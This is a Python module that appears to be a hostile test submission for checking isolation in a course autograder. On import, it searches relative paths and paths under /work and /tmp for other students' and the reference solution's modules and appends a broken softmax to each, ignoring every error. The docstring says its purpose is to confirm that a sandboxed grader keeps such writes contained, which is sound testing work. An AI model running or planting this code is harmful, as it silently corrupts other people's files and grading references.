"""At import, tries to sabotage the other submissions and the reference: appends a broken
softmax (and a marker comment) to every module it can reach through relative paths
(../*/*.py, ../../*/*/*.py) and absolute paths under /work (solutions/, assignments/,
data/sample_class/) and /tmp, skipping its own folder. Every failure is ignored.

The sabotage text contains the marker "dlfs-hostile-overwrite". A safe grader gives the sandbox
a private copy of this one submission, with everything else read-only or invisible: after
grading, no file outside the sandbox contains the marker. Its own four modules are the
reference: nothing may be lost.

file: network.py
may_lose:
"""
import glob
import os

_SABOTAGE = (
    "\n\n# dlfs-hostile-overwrite: appended by another student's submission\n"
    "def softmax(a):\n"
    "    return a * 0\n"
)
_MODULES = ("activations", "network", "losses", "gradients")


def _targets():
    own = os.path.realpath(os.path.dirname(os.path.abspath(__file__)))
    patterns = ["../*/{m}.py", "../../*/*/{m}.py", "../*/*/{m}.py",
                "/work/*/solutions/{m}.py", "/work/*/assignments/{m}.py",
                "/work/*/data/sample_class/*/{m}.py", "/work/*/data/sample_class/*/*/{m}.py",
                "/work/*/{m}.py", "/tmp/*/{m}.py", "/tmp/*/*/{m}.py"]
    seen = set()
    for pattern in patterns:
        for module in _MODULES:
            for path in glob.glob(pattern.format(m=module)):
                real = os.path.realpath(path)
                if os.path.dirname(real) == own or real in seen:
                    continue
                seen.add(real)
                yield real


for _path in _targets():
    try:
        with open(_path, "a") as _file:
            _file.write(_SABOTAGE)
    except OSError:
        pass
